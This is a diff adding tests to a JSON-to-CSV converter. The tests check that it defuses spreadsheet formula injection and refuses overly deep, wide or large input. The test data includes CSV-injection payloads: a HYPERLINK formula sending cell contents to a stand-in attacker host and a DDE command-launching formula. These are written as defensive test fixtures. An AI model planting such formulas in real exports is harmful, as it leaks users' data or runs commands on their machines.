@@ -95,3 +95,63 @@ describe('json-to-csv', () => {
     expect(csvFileName(null, '\t')).toBe('data.tsv')
   })
 })
+
+describe('json-to-csv on hostile input', () => {
+  it('defuses the header row and text cells by default, with every OWASP prefix', () => {
+    const json = JSON.stringify([
+      { '=HYPERLINK("https://attacker.example/?"&A2,"Click")': 1, "@SUM(1)*cmd|' /C calc'!A0": '+1', n: -5 },
+      { '\tt': '\rr', '-x': '=1' },
+    ])
+    const rows = parseCsv(ok(json).csv, ',').rows
+    expect(rows[0]).toEqual([
+      `'=HYPERLINK("https://attacker.example/?"&A2,"Click")`,
+      "'@SUM(1)*cmd|' /C calc'!A0",
+      'n',
+      "'\tt",
+      "'-x",
+    ])
+    // -5 is a number: it stays one.
+    expect(rows[1]).toEqual(['1', "'+1", '-5', '', ''])
+    expect(rows[2]).toEqual(['', '', '', "'\rr", "'=1"])
+    const live = parseCsv(ok(json, { ...DEFAULT_OPTIONS, protectFormulas: false }).csv, ',').rows
+    expect(live[0][0]).toBe('=HYPERLINK("https://attacker.example/?"&A2,"Click")')
+  })
+
+  it('flattens 100,000 nested levels without the call stack, and refuses them naming the limit', () => {
+    let deep: unknown = 1
+    for (let i = 0; i < 100_000; i++) deep = { a: deep }
+    expect(() => flatten(deep, '', new Map())).toThrow(/more than 1,000 levels deep/)
+    const r = jsonToCsv(`[${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}]`, DEFAULT_OPTIONS)
+    expect(r.ok).toBe(false)
+    if (!r.ok)
+      expect(r.message).toBe('This JSON nests more than 1,000 levels deep; JSON to CSV flattens up to 1,000 levels.')
+    // Up to the limit it flattens in document order.
+    let ok999: unknown = 'x'
+    for (let i = 0; i < 999; i++) ok999 = { a: ok999 }
+    const flat = flatten(ok999, '', new Map())
+    expect([...flat.keys()]).toEqual([Array(999).fill('a').join('.')])
+    // And the tool keeps working.
+    expect(ok('[{"a":1}]').csv).toBe('a\r\n1')
+  })
+
+  it('writes 200,000 rows of arrays (no argument spread)', () => {
+    const data = Array.from({ length: 200_000 }, (_, i) => [i, `r${i}`])
+    const r = ok(JSON.stringify(data))
+    expect(r.rows).toBe(200_000)
+    expect(r.columns).toEqual(['column_1', 'column_2'])
+    expect(r.csv.endsWith('\r\n199999,r199999')).toBe(true)
+  })
+
+  it('refuses 20,000 different keys quickly, naming the column limit', () => {
+    const data = Array.from({ length: 20_000 }, (_, i) => ({ [`k${i}`]: i }))
+    const t0 = performance.now()
+    const r = jsonToCsv(JSON.stringify(data), DEFAULT_OPTIONS)
+    expect(performance.now() - t0).toBeLessThan(2_000)
+    expect(r.ok).toBe(false)
+    if (!r.ok) expect(r.message).toContain('up to 16,384 columns')
+    const cells = jsonToCsv(JSON.stringify(Array.from({ length: 400_000 }, () => Array(20).fill(1))), DEFAULT_OPTIONS)
+    expect(cells.ok ? '' : cells.message).toBe(
+      '400,000 rows × 20 columns is 8,000,000 cells: JSON to CSV writes up to 5,000,000.',
+    )
+  })
+})
